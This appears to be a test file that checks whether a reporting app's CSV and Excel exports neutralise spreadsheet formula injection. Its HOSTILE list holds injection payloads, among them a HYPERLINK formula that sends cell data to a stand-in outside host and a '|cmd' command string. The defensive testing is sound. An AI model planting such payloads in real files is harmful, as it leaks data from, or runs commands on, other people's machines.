import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chartCsv } from '@/app/ui/chart/chart-csv';
import { print } from '@/lib/cli/output';
import { changesCsv } from '@/lib/report/changes/changes-csv';
import { cleaningsCsv } from '@/lib/report/cleanings/cleanings-csv';
import { costsCsv } from '@/lib/report/energy/costs-csv';
import { DEFAULT_FLEET_ADDRESS } from '@/lib/report/fleet-address';
import { fleetCsvRows } from '@/lib/report/fleet-csv';
import { csvText } from '@/lib/report/format/csv';
import { healthCsv } from '@/lib/report/health/health-csv';
import { replacedCsv } from '@/lib/report/import/replaced-csv';
import { setAsideCsv } from '@/lib/report/import/set-aside-csv';
import { canonicalTemplate } from '@/lib/report/import/template';
import { planCsv } from '@/lib/report/plan/plan-csv';
import type { PlanTableRow } from '@/lib/report/plan/plan-table';
import { recordCsv } from '@/lib/report/record/record-csv';
import { parseUnitAddress } from '@/lib/report/unit/unit-address';
import { unitView } from '@/lib/report/unit-view';
import { workDocument } from '@/lib/report/work-list/work-document';
import { workCsv } from '@/lib/report/work-list/work-table';
import { acceptPlan } from '@/lib/work/accept-plan';
import { exportWorkList } from '@/lib/work/export-work-list';
import { makeFleetSheet } from '@/lib/work/fleet-sheet';
import { registerFleet } from '@/lib/work/register-fleet';
import { fleetOf } from '../support/fleet-records';
import { fleetViewOf } from '../support/fleet-view-of';
import { ANY_REQUEST, plannedCleaning, planResultOf } from '../support/plan-records';
import { plannedFleet } from '../support/planned-fleet';
import { type TemporaryDatabase, temporaryDatabase } from '../support/temporary-database';
import { unitRecords } from '../support/unit-records';
import { plainFleet, plainUnit } from '../support/units';
import { reportDocuments } from './report-documents';
import { countFormulas } from './workbook-formulas';

/** What somebody writes into a name, a method or a note so that the next one's spreadsheet runs it. */
const HOSTILE = [
  '=HYPERLINK("http://elsewhere.example/?"&A1,"see")',
  '+1+1',
  '-1+1|cmd',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u0000=1+1',
  '＝1+1',
];

/** Every text of a document made hostile, in turn; figures, days and what the program itself looks up stay. */
function poison<T>(document: T): T {
  let count = 0;
  const own = /^(\d{4}-\d\d|P\d|Etc|Europe)/;
  const changed = (key: string, value: unknown): unknown => {
    if (typeof value !== 'string' || own.test(value) || KEPT.includes(key)) return value;
    count += 1;
    return HOSTILE[count % HOSTILE.length];
  };
  return JSON.parse(JSON.stringify(document, changed)) as T;
}

/** Words the program looks up: nobody can enter others. */
const KEPT = ['state', 'worstReason', 'reason', 'kind'];

let database: TemporaryDatabase;
let documents: Awaited<ReturnType<typeof reportDocuments>>;
beforeAll(async () => {
  database = await temporaryDatabase();
  const { tags } = await plannedFleet(database.context, { seed: 5, units: 2 });
  const texts = HOSTILE.slice(0, 4).map((text, index) =>
    plannedCleaning(tags[index % 2]!, `2026-07-0${index + 1}T06:00:00Z`, { outage: text, method: text }),
  );
  const result = planResultOf(texts);
  await acceptPlan(database.context, { request: ANY_REQUEST, result, by: 'planner', note: '=note' });
  documents = await reportDocuments(database.context);
}, 240_000);
afterAll(() => database.remove());

/** Cells that a spreadsheet would run: neither a number nor a text that begins plainly. */
function runnable(csv: string): string[] {
  const rows = parseCsv(csv, { relax_column_count: true, bom: true }) as string[][];
  return rows.flat().filter((cell) => /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]/.test(cell) && !isNumber(cell));
}

function isNumber(cell: string): boolean {
  return /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);
}

const PLAN_ROW: PlanTableRow = {
  spot: { unit: 0, option: 0 },
  tag: 'E-1',
  start: 0,
  startWords: '=1',
  endWords: '+1',
  duration: '@1',
  where: '=outage',
  reason: '=reason',
  method: '-method',
  crewHours: -1,
  cost: -2.5,
  saves: -3,
  cleanBefore: '@day',
  daysLate: 0,
  isLocked: false,
};

/** Every function that makes a file of cells, by the source that calls `csvText`. */
const EXPORTS: Record<string, () => string> = {
  'app/ui/chart/chart-csv.ts': () => {
    const [chart] = unitView(unitRecords(), parseUnitAddress('HX-1', { period: 'all' }), 'si').charts;
    const columns = chart!.view.columns.map((column, index) => ({ ...column, label: HOSTILE[index]! }));
    const lane = chart!.view.lane;
    const remarks = lane?.remarks?.map((_, index) => HOSTILE[index % HOSTILE.length]!);
    return chartCsv({ ...chart!.view, columns, lane: lane == null ? lane : { ...lane, remarks } } as never);
  },
  'lib/cli/output.ts': () => {
    const columns = [...HOSTILE];
    return printed({ columns, rows: [HOSTILE, HOSTILE.map((_, index) => -index - 1)] });
  },
  'lib/report/changes/changes-csv.ts': () => {
    const changes = HOSTILE.map((text, id) => ({
      id,
      at: 0,
      actor: { kind: 'person', id: text, name: text },
      subject: 'cleaning',
      name: text,
      action: 'added',
      note: text,
      before: null,
      after: { method: text },
    }));
    return changesCsv(changes as never, { zones: new Map(), timeZone: 'UTC' } as never);
  },
  'lib/report/cleanings/cleanings-csv.ts': () => cleaningsCsv(poison(documents.cleanings)),
  'lib/report/energy/costs-csv.ts': () => costsCsv(poison(documents.costs)),
  'lib/report/fleet-csv.ts': () => {
    const stories = HOSTILE.map((service, index) => ({ tag: `E-${index}`, service, lostDuty: -5 }));
    const view = fleetViewOf(fleetOf(stories), DEFAULT_FLEET_ADDRESS, 'si');
    return fleetCsvRows(poison(view.rows), view.lostUnit);
  },
  'lib/report/health/health-csv.ts': () => healthCsv(poison(documents.health)),
  'lib/report/import/replaced-csv.ts': () => {
    const rows = HOSTILE.map((text, beforeImport) => ({
      tag: text,
      time: text,
      sensor: text,
      unit: text,
      before: -1,
      after: -2,
      beforeImport,
      isChangedSince: false,
    }));
    return replacedCsv({ rows } as never);
  },
  'lib/report/import/set-aside-csv.ts': () =>
    setAsideCsv(HOSTILE.map((text, line) => ({ line, text, reason: text, field: text, message: text }))),
  'lib/report/import/template.ts': () =>
    HOSTILE.map((tag) => canonicalTemplate('si', tag).example).join('\r\n'),
  'lib/report/plan/plan-csv.ts': () => planCsv([PLAN_ROW], '=EUR'),
  'lib/report/record/record-csv.ts': () => recordCsv(poison(documents.record)),
  'lib/report/work-list/work-table.ts': () => workCsv(poison(workDocument(documents.work))),
};

describe('files for spreadsheets', () => {
  it('are all made by one function, each tried here', () => {
    expect(Object.keys(EXPORTS).sort()).toEqual(sourcesWith(/csvText\(\[?/).filter((path) => path !== OWN));
    expect(sourcesWith(/replaceAll\('"', '""'\)/)).toEqual([OWN]);
  });

  it.each(Object.keys(EXPORTS))('of %s hold no text that would be run', (source) => {
    const csv = EXPORTS[source]!();
    expect(csv).toContain("'");
    expect(runnable(csv)).toEqual([]);
  });

  it('keep numbers as numbers, negative ones too, and texts in one cell', () => {
    const rows = [[-1.5, -2e-7, 'a "quoted", text\r\nof two lines', null, Number.NaN]];
    expect(csvText(rows)).toBe('-1.5,-2e-7,"a ""quoted"", text\r\nof two lines",,\r\n');
    expect(csvText([HOSTILE.slice(0, 2)])).toBe(
      `"'=HYPERLINK(""http://elsewhere.example/?""&A1,""see"")",'+1+1\r\n`,
    );
  });

  it('are workbooks in which no cell is a formula, and texts are whole', async () => {
    const { content } = await exportWorkList(database.context, 'xlsx');
    const bytes = Buffer.from(content as Uint8Array);
    const [sheet] = await readXlsxFile(bytes);
    const column = sheet!.data[0]!.indexOf('outage');
    const texts = sheet!.data.slice(1).map((row) => row[column]);
    expect(texts.sort()).toEqual(HOSTILE.slice(0, 4).sort());
    expect(countFormulas(bytes)).toBe(0);
  });

  it('are workbooks to be edited in which no cell is a formula either', async () => {
    const services = HOSTILE.slice(0, 4);
    const fleet = plainFleet([]);
    const units = services.map((service, index) => plainUnit(`FX-${index}`, { service }));
    await registerFleet(database.context, { ...fleet, units });
    const sheet = Buffer.from(await makeFleetSheet(database.context, { withUnits: true, system: 'si' }));
    const texts = (await readXlsxFile(sheet)).flatMap(({ data }) => data.flat());
    for (const service of services) expect(texts).toContain(service);
    expect(countFormulas(sheet)).toBe(0);
  });

  it('are made into workbooks in two places, both tried here', () => {
    expect(sourcesWith(/import writeXlsxFile/)).toEqual([
      'lib/work/export-work-list.ts',
      'lib/work/fleet-sheet.ts',
    ]);
  });
});

const OWN = 'lib/report/format/csv.ts';
const ROOT = join(import.meta.dirname, '../..');

function sourcesWith(pattern: RegExp): string[] {
  return ['app', 'lib']
    .flatMap((folder) =>
      readdirSync(join(ROOT, folder), { recursive: true, encoding: 'utf8' }).map((name) =>
        join(folder, name),
      ),
    )
    .filter((path) => /\.tsx?$/.test(path) && pattern.test(readFileSync(join(ROOT, path), 'utf8')))
    .sort();
}

/** What the command line writes. */
function printed(table: { columns: string[]; rows: (string | number)[][] }): string {
  const written: string[] = [];
  const write = process.stdout.write;
  process.stdout.write = ((text: string) => written.push(text) > 0) as typeof write;
  try {
    print({ csv: true }, { document: null, table });
  } finally {
    process.stdout.write = write;
  }
  return written.join('');
}
